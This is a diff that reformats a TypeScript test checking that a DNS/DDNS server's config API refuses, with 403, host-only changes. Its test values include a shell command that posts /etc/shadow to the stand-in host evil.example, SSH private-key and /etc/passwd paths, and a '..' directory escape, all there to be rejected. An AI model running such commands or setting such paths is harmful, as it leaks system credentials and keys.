@@ -19,24 +19,90 @@ ddns:
 
 describe('changes over the API to what only the host may set', () => {
   let h: Harness;
-  beforeAll(async () => { h = await start(CONFIG); });
+  beforeAll(async () => {
+    h = await start(CONFIG);
+  });
   afterAll(async () => h.close());
 
   const current = async () => (await h.call('GET', '/config')).body;
 
   it.each([
-    ['a new ddns.ip.command', (c: Body) => { c.ddns.ip.command = ['/bin/sh', '-c', 'curl -d @/etc/shadow http://evil.example']; }, ['ddns', 'ip', 'command']],
-    ['a DDNS token file outside', (c: Body) => { c.ddns.records[0].token_file = '/etc/shadow'; }, ['ddns', 'records', 0, 'token_file']],
-    ['a new record reading a file outside', (c: Body) => {
-      c.ddns.records.push({ provider: 'dyndns2', name: 'x.example.com', login: 'me', password_file: '/root/.ssh/id_ed25519', server: 'https://evil.example' });
-    }, ['ddns', 'records', 1, 'password_file']],
-    ['a CA file outside', (c: Body) => { c.dns.upstreams.ca_file = '/etc/ssl/evil.pem'; }, ['dns', 'upstreams', 'ca_file']],
-    ['zones_dir outside', (c: Body) => { c.dns.zones_dir = '/etc'; }, ['dns', 'zones_dir']],
-    ['data_dir elsewhere', (c: Body) => { c.data_dir = '/tmp/elsewhere'; }, ['data_dir']],
-    ['the API token file', (c: Body) => { c.api.token_file = '/etc/hearth/other.token'; }, ['api', 'token_file']],
-    ['a cloaking file outside', (c: Body) => { c.dns.cloaking.files = ['/etc/passwd']; }, ['dns', 'cloaking', 'files', 0]],
-    ['a local block list outside', (c: Body) => { c.dns.blocking.lists.push('/etc/passwd'); }, ['dns', 'blocking', 'lists', 1]],
-    ['a path escaping data_dir with ..', (c: Body) => { c.dns.zones_dir = join(c.data_dir, '../../etc'); }, ['dns', 'zones_dir']],
+    [
+      'a new ddns.ip.command',
+      (c: Body) => {
+        c.ddns.ip.command = ['/bin/sh', '-c', 'curl -d @/etc/shadow http://evil.example'];
+      },
+      ['ddns', 'ip', 'command'],
+    ],
+    [
+      'a DDNS token file outside',
+      (c: Body) => {
+        c.ddns.records[0].token_file = '/etc/shadow';
+      },
+      ['ddns', 'records', 0, 'token_file'],
+    ],
+    [
+      'a new record reading a file outside',
+      (c: Body) => {
+        c.ddns.records.push({
+          provider: 'dyndns2',
+          name: 'x.example.com',
+          login: 'me',
+          password_file: '/root/.ssh/id_ed25519',
+          server: 'https://evil.example',
+        });
+      },
+      ['ddns', 'records', 1, 'password_file'],
+    ],
+    [
+      'a CA file outside',
+      (c: Body) => {
+        c.dns.upstreams.ca_file = '/etc/ssl/evil.pem';
+      },
+      ['dns', 'upstreams', 'ca_file'],
+    ],
+    [
+      'zones_dir outside',
+      (c: Body) => {
+        c.dns.zones_dir = '/etc';
+      },
+      ['dns', 'zones_dir'],
+    ],
+    [
+      'data_dir elsewhere',
+      (c: Body) => {
+        c.data_dir = '/tmp/elsewhere';
+      },
+      ['data_dir'],
+    ],
+    [
+      'the API token file',
+      (c: Body) => {
+        c.api.token_file = '/etc/hearth/other.token';
+      },
+      ['api', 'token_file'],
+    ],
+    [
+      'a cloaking file outside',
+      (c: Body) => {
+        c.dns.cloaking.files = ['/etc/passwd'];
+      },
+      ['dns', 'cloaking', 'files', 0],
+    ],
+    [
+      'a local block list outside',
+      (c: Body) => {
+        c.dns.blocking.lists.push('/etc/passwd');
+      },
+      ['dns', 'blocking', 'lists', 1],
+    ],
+    [
+      'a path escaping data_dir with ..',
+      (c: Body) => {
+        c.dns.zones_dir = join(c.data_dir, '../../etc');
+      },
+      ['dns', 'zones_dir'],
+    ],
   ])('refuses %s with 403, and the config file stays as it was', async (_what, change, path) => {
     const before = readFileSync(h.file!, 'utf8');
     const config = await current();
